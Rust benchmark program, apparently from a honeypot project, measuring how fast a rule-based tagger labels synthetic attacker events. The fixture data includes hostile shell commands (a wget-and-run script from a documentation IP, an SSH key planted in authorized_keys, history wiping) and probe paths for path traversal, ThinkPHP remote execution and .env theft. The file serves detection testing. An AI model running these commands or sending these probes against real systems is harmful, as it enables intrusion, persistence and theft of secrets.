//! Tagging throughput on a realistic event mix, rules on vs. a no-op.
//!
//! `cargo run --release -p decnet-attack --example tag_bench [EVENTS]`
//!
//! The mix follows what a fleet records under attack: mostly connects,
//! disconnects and failed logins (brute force), then shell commands, web
//! requests and a few downloads; sources and sessions rotate so aggregate
//! and sequence state grows as it would.
#![allow(clippy::unwrap_used)]
#![allow(unsafe_code)] // syscalls (signals, mounts, rusage); each block says why it is sound

use std::hint::black_box;
use std::time::Instant;

use chrono::{Duration, Utc};
use decnet_attack::{RuleHandle, RuleSet, Tagger};
use decnet_core::{Event, EventKind};
use uuid::Uuid;

const COMMANDS: &[&str] = &[
    "uname -a",
    "cd /tmp; wget http://203.0.113.9/bins.sh; chmod +x bins.sh; ./bins.sh",
    "cat /proc/cpuinfo | grep name | wc -l",
    "ls -la",
    "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    "ps aux | grep -v grep | grep xmrig",
    "history -c",
    "free -m",
];

const PATHS: &[&str] = &[
    "/",
    "/wp-login.php",
    "/.env",
    "/cgi-bin/.%2e/.%2e/etc/passwd",
    "/index.php?s=/Index/\\think\\app/invokefunction",
    "/favicon.ico",
];

/// `per_source` consecutive events come from one address (sessions of 20).
pub(crate) fn mix(n: usize, per_source: usize) -> Vec<Event> {
    let t0 = Utc::now();
    (0..n)
        .map(|i| {
            let s = i / per_source;
            let src = format!("198.51.{}.{}", (s / 251) % 200, s % 251);
            let kind = match i % 20 {
                0..=5 => EventKind::Connect,
                6..=9 => EventKind::Disconnect,
                10..=14 => EventKind::AuthAttempt,
                15..=17 => EventKind::Command,
                18 => EventKind::Request,
                _ => EventKind::FileDownload,
            };
            let service = match kind {
                EventKind::Request => "http",
                _ => "ssh",
            };
            let mut e = Event::new(format!("decky-{}", i % 7), service, kind);
            e.ts = t0 + Duration::microseconds(i as i64 * 100);
            e.src_ip = src.parse().unwrap();
            e.dst_port = [22, 80, 443, 3306, 6379][i % 5];
            e.session_id = Some(Uuid::from_u128((i / 20) as u128));
            match kind {
                EventKind::AuthAttempt => {
                    e = e
                        .with("username", ["root", "admin", "ubuntu"][i % 3])
                        .with("secret_b64", format!("cGFzc3dvcmQ{}", i % 9))
                        .with("success", i % 97 == 0)
                }
                EventKind::Command => e = e.with("command", COMMANDS[i % COMMANDS.len()]),
                EventKind::Request => {
                    e = e
                        .with("path", PATHS[i % PATHS.len()])
                        .with("user_agent", "Mozilla/5.0 zgrab/0.x")
                        .with("method", "GET")
                }
                EventKind::FileDownload => {
                    e = e.with("url", "http://203.0.113.9/x86").with("tool", "wget")
                }
                _ => {}
            }
            e
        })
        .collect()
}

/// CPU seconds this thread has used: on a shared, loaded machine wall time
/// mostly measures waiting for a core.
fn cpu_seconds() -> f64 {
    let mut ts = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: clock_gettime writes into the timespec we pass and nothing else.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    ts.tv_sec as f64 + ts.tv_nsec as f64 / 1e9
}

/// (CPU seconds, wall seconds, tags) of tagging `events` with a fresh tagger.
fn run(handle: RuleHandle, events: &[Event]) -> (f64, f64, usize) {
    let mut tagger = Tagger::new(handle);
    let (cpu0, wall0) = (cpu_seconds(), Instant::now());
    let mut tags = 0;
    for e in events {
        tags += black_box(tagger.process(e)).len();
    }
    (cpu_seconds() - cpu0, wall0.elapsed().as_secs_f64(), tags)
}

/// What `wrk` and `decnet-load tcp-banner` make the fleet record: a
/// keep-alive `GET /` with only a Host header, and a telnet connection's
/// connect and disconnect (the figures of BENCH.md's hot-path section).
fn wrk_mix(builtin: RuleHandle, n: usize) {
    let t0 = Utc::now();
    let request = |i: usize| {
        let mut e = Event::new("t", "http", EventKind::Request)
            .with("method", "GET")
            .with("path", "/")
            .with("query", "")
            .with("user_agent", "")
            .with("headers", serde_json::json!({"host": "127.0.70.10:44080"}))
            .with("body", "")
            .with("body_len", 0)
            .with("version", "HTTP/1.1");
        e.ts = t0 + Duration::microseconds(i as i64 * 30);
        e.src_ip = "127.0.0.1".parse().unwrap();
        e.src_port = 40_000 + (i % 32) as u16;
        e.session_id = Some(Uuid::from_u128((i % 32) as u128));
        e
    };
    let telnet = |i: usize| {
        let kind = [EventKind::Connect, EventKind::Disconnect][i % 2];
        let mut e = Event::new("t", "telnet", kind);
        e.ts = t0 + Duration::microseconds(i as i64 * 30);
        e.src_ip = "127.0.0.1".parse().unwrap();
        e.dst_port = 44023;
        e.session_id = Some(Uuid::from_u128((i / 2) as u128));
        e
    };
    for (label, events) in [
        (
            "http keep-alive request",
            (0..n).map(request).collect::<Vec<_>>(),
        ),
        ("telnet connect/disconnect", (0..n).map(telnet).collect()),
    ] {
        let (cpu, _, tags) = run(builtin.clone(), &events);
        println!(
            "{label}: {n} events, {tags} tags, {:.2} µs CPU/event",
            cpu / n as f64 * 1e6
        );
    }
}

fn main() {
    let n: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(1_000_000);
    let builtin = RuleHandle::builtin();
    let rules = builtin.current().rules().len();
    println!("events: {n}, rules: {rules}");
    // Attack traffic: each source sends a few hundred events (brute force,
    // a shell session or two); and the worst case for per-source state, a
    // distributed sweep where every event comes from a new address.
    if std::env::var("TAG_BENCH_WRK").is_ok() {
        return wrk_mix(builtin, n);
    }
    if std::env::var("TAG_BENCH_BY_KIND").is_ok() {
        let events = mix(n, 200);
        for kind in decnet_core::EventKind::ALL {
            let some: Vec<Event> = events.iter().filter(|e| e.kind == kind).cloned().collect();
            if some.is_empty() {
                continue;
            }
            let (cpu, _, tags) = run(builtin.clone(), &some);
            println!(
                "{kind}: {} events, {tags} tags, {:.2} µs CPU/event",
                some.len(),
                cpu / some.len() as f64 * 1e6
            );
        }
        return;
    }
    for (label, per_source) in [
        ("200 events per source", 200),
        ("a new source every event", 1),
    ] {
        let events = mix(n, per_source);
        let empty = RuleHandle::from(RuleSet::from_rules(Vec::new()));
        // Warm up allocator and caches once.
        run(builtin.clone(), &events[..n.min(50_000)]);
        let (noop_cpu, _, _) = run(empty, &events);
        let (on_cpu, on_wall, tags) = run(builtin.clone(), &events);
        let per_event_us = (on_cpu - noop_cpu).max(0.0) / n as f64 * 1e6;
        println!("\n{label}: {tags} tags");
        println!("  no-op tagger: {:>10.0} events/CPU-s", n as f64 / noop_cpu);
        println!(
            "  rules on:     {:>10.0} events/CPU-s ({:.2} µs CPU/event; wall {:.2} µs/event)",
            n as f64 / on_cpu,
            on_cpu / n as f64 * 1e6,
            on_wall / n as f64 * 1e6
        );
        println!(
            "  cost at 10k events/s: {:.1} % of one core",
            per_event_us * 10_000.0 / 1e6 * 100.0
        );
    }
}
